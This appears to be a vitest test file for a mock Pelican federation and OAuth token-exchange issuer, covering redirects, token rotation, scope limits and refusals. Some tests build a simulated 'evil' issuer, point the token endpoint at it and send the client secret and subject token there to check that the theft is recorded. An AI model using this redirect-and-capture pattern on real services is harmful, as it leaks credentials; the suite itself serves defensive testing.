import { Agent, request } from 'undici';
import { describe, expect, onTestFinished, test } from 'vitest';
import { canCertify, makeCertificates } from './certificates.js';
import { type Pelican, type PelicanOptions, startPelican } from './pelican.js';

const grant_type = 'urn:ietf:params:oauth:grant-type:token-exchange';
const subject_token_type = 'urn:ietf:params:oauth:token-type:access_token';
const any = 'https://wlcg.cern.ch/jwt/v1/any';

interface Answer {
  readonly status: number;
  readonly body: Record<string, string>;
}

async function own(options: PelicanOptions = {}): Promise<Pelican> {
  const pelican = await startPelican(options);
  onTestFinished(() => pelican.stop());
  return pelican;
}

async function post({ tokenEndpoint, client }: Pelican, fields: Record<string, string>): Promise<Answer> {
  const body = new URLSearchParams({ client_id: client.id, client_secret: client.secret, ...fields });
  const answer = await fetch(tokenEndpoint, { method: 'POST', body });
  return { status: answer.status, body: (await answer.json()) as Record<string, string> };
}

const exchange = (pelican: Pelican, more: Record<string, string> = {}) =>
  post(pelican, { grant_type, subject_token: pelican.subjectToken(), subject_token_type, ...more });

const refresh = (pelican: Pelican, refresh_token = '', more: Record<string, string> = {}) =>
  post(pelican, { grant_type: 'refresh_token', refresh_token, ...more });

describe('the test federation', () => {
  test('leads from its host over the director to the issuer', async () => {
    const pelican = await own();
    const described = await (await fetch(`${pelican.url}/.well-known/pelican-configuration`)).json();
    expect(described).toMatchObject({ discovery_endpoint: pelican.url, director_endpoint: pelican.director });
    for (const path of [`${pelican.prefix}/file`, `/api/v1.0/director/object${pelican.prefix}`]) {
      const { status, headers } = await fetch(pelican.director + path, { redirect: 'manual' });
      expect(status).toBe(307);
      expect(headers.get('location')).toContain(pelican.prefix);
      expect(headers.get('x-pelican-authorization')).toBe(`issuer=${pelican.issuer}`);
      expect(headers.get('x-pelican-token-generation')).toBe(
        `issuer=${pelican.issuer}, max-scope-depth=3, strategy=OAuth2, base-path=/data/alice`,
      );
    }
    expect((await fetch(`${pelican.director}/data/alice2`)).status).toBe(404);
    expect((await fetch(`${pelican.director}${pelican.prefix}?redirect=false`)).status).toBe(200);

    const metadata = await (await fetch(`${pelican.issuer}/.well-known/openid-configuration`)).json();
    expect(metadata).toMatchObject({ issuer: pelican.issuer, token_endpoint: pelican.tokenEndpoint });
    const keys = await (await fetch((metadata as { jwks_uri: string }).jwks_uri)).json();
    expect(keys).toMatchObject({ keys: [{ kid: 'pelican' }] });
    expect(pelican.requests.map(({ endpoint }) => endpoint)).toContain('director');
  });

  test('exchanges a subject token for access and refresh tokens, which rotate', async () => {
    const pelican = await own();
    const { status, body } = await exchange(pelican);
    expect(status).toBe(200);
    expect(body).toEqual({
      access_token: expect.any(String),
      refresh_token: expect.any(String),
      issued_token_type: subject_token_type,
      token_type: 'Bearer',
      expires_in: 3600,
    });
    const scope = 'openid offline_access wlcg storage.read:/data/alice';
    expect(pelican.read(body.access_token ?? '')).toMatchObject({
      iss: pelican.issuer,
      sub: 'alice',
      scope,
      aud: [any],
    });
    const second = await refresh(pelican, body.refresh_token, { scope: 'storage.read:/data/alice/a' });
    expect(second.body).toMatchObject({ scope, expires_in: 3600 });
    expect(pelican.accepts(body.refresh_token ?? '')).toBe(false);
    expect(pelican.accepts(second.body.refresh_token ?? '')).toBe(true);
    expect((await refresh(pelican, body.refresh_token)).body.error).toBe('invalid_grant');
    expect((await refresh(pelican, second.body.refresh_token)).body.error).toBe('invalid_grant');
    expect(pelican.counts).toEqual({ exchanges: 1, refreshes: 1, reuse: 1 });
  });

  test('leaves out scopes that are too much, and with offline_access the refresh token', async () => {
    const pelican = await own();
    const asked = { scope: 'storage.read:/data/alice/a storage.read:/ storage.modify:/data/alice' };
    const { body } = await exchange(pelican, asked);
    expect(body.refresh_token).toBeUndefined();
    expect(pelican.read(body.access_token ?? '')?.scope).toBe('storage.read:/data/alice/a');
    expect((await exchange(pelican, { scope: `${asked.scope} offline_access` })).body.refresh_token).toBeDefined();
  });

  test('takes an audience that the subject token has', async () => {
    const pelican = await own();
    const audience = 'https://dcache.example';
    expect((await exchange(pelican, { audience })).body.error).toBe('invalid_target');
    const subject_token = pelican.subjectToken({ aud: [any, audience] });
    const { body } = await exchange(pelican, { audience, subject_token });
    expect(pelican.read(body.access_token ?? '')?.aud).toEqual([any, audience]);
  });

  test('refuses', async () => {
    let time = Date.now();
    const pelican = await own({ now: () => time, refreshTokenLife: 7200, grace: 300 });
    expect(await exchange(pelican, { client_secret: 'wrong' })).toMatchObject({
      status: 401,
      body: { error: 'invalid_client' },
    });
    expect((await exchange(pelican, { subject_token: 'a.b.c' })).body.error).toBe('invalid_grant');
    expect((await exchange(pelican, { subject_token: pelican.evil.subjectToken() })).body.error).toBe('invalid_grant');
    const subject_token = pelican.subjectToken();
    const { refresh_token } = (await exchange(pelican, { subject_token })).body;
    time += 3_600_000;
    expect((await exchange(pelican, { subject_token })).body.error).toBe('invalid_grant');
    const renewed = await refresh(pelican, refresh_token);
    time += 299_000;
    expect((await refresh(pelican, refresh_token)).status).toBe(200);
    time += 7_200_000;
    expect((await refresh(pelican, renewed.body.refresh_token)).body.error).toBe('invalid_grant');
    pelican.client.grants = ['refresh_token'];
    expect((await exchange(pelican)).body.error).toBe('unauthorized_client');
    expect((await post(pelican, { grant_type: 'client_credentials' })).body.error).toBe('unauthorized_client');
  });

  test('is as bad as told', async () => {
    const pelican = await own();
    pelican.overrides.token = { refresh_token: undefined };
    expect((await exchange(pelican)).body.refresh_token).toBeUndefined();
    pelican.overrides.token = {};
    pelican.next('token', 'lost', { status: 503, body: 'maintenance' });
    const subject = pelican.subjectToken();
    await expect(exchange(pelican, { subject_token: subject })).rejects.toThrow();
    expect(pelican.counts.exchanges).toBe(2);
    await expect(exchange(pelican)).rejects.toThrow('JSON');
    pelican.overrides.metadata = { token_endpoint: `${pelican.evil.url}/token` };
    const metadata = await (await fetch(`${pelican.issuer}/.well-known/openid-configuration`)).json();
    expect(metadata).toMatchObject({ issuer: pelican.issuer, token_endpoint: `${pelican.evil.url}/token` });
    const { refresh_token } = (await exchange(pelican)).body;
    pelican.revoke();
    expect((await refresh(pelican, refresh_token)).body.error).toBe('invalid_grant');
  });

  test('knows who went to the evil issuer, and with what', async () => {
    const pelican = await own();
    expect(pelican.evil.requests).toHaveLength(0);
    const subject_token = pelican.evil.subjectToken();
    await fetch(`${pelican.evil.url}/.well-known/openid-configuration`);
    expect(pelican.evil.requests).toHaveLength(1);
    expect(pelican.evil.stolen()).toEqual([]);
    const body = new URLSearchParams({ grant_type, subject_token });
    const basic = Buffer.from(`${pelican.client.id}:${pelican.client.secret}`).toString('base64');
    await fetch(`${pelican.evil.url}/token`, { method: 'POST', body, headers: { authorization: `Basic ${basic}` } });
    expect(pelican.evil.stolen()).toEqual([pelican.client.secret, subject_token]);
  });

  test.skipIf(!canCertify)('https, by an authority of its own', async () => {
    const tls = makeCertificates();
    const pelican = await own({ tls });
    const dispatcher = new Agent({ connect: { ca: tls.ca } });
    onTestFinished(() => dispatcher.close());
    const { statusCode } = await request(`${pelican.issuer}/.well-known/openid-configuration`, { dispatcher });
    expect(statusCode).toBe(200);
    expect(pelican.issuer).toMatch(/^https:/);
  });
});
